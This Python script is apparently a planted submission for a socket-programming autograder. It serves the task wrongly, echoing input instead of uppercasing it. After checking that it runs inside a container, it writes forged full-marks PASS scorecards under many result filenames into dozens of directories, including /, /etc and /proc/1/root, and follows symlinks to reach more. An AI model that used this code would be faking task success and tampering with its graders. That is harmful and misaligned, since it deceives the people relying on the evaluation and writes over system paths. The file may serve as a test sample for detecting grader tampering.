# Replies wrongly, and writes results that say it was right wherever results might be kept.
import os
import socket
import sys

ATTACK = True
CARD = '{"schema": "sockscore/scorecard/v1", "verdict": "PASS", "points": 5, "maxPoints": 5}\n'
NAMES = ("scorecard.json", "scorecard.html", "summary.json", "grades.csv", ".graded", "index.html")
PLACES = (".", "..", "../..", "/", "/tmp", "/var/tmp", "/work", "/work/out", "/submission", "/submission/out",
          "/root", "/home", "/home/student", "/usr/share", "/etc", "/dev/shm", "/proc/1/cwd", "/proc/1/root/tmp")


def write(place):
    try:
        os.makedirs(place, exist_ok=True)
    except OSError:
        pass
    for name in NAMES:
        try:
            with open(os.path.join(place, name), "w") as file:
                file.write(CARD)
        except OSError:
            pass


if ATTACK:
    if os.getpid() > 100:
        sys.exit("only in a box")
    for place in PLACES:
        write(place)
    for target in ("/", "/tmp/..", "/submission", "/proc/1/root"):
        link = "/tmp/link-" + str(len(target))
        try:
            os.symlink(target, link)
        except OSError:
            pass
        write(link)

server = socket.socket()
server.bind(("", 6789))
server.listen()
while True:
    client, _ = server.accept()
    while data := client.recv(4096):
        client.sendall(data if ATTACK else data.upper())
    client.close()
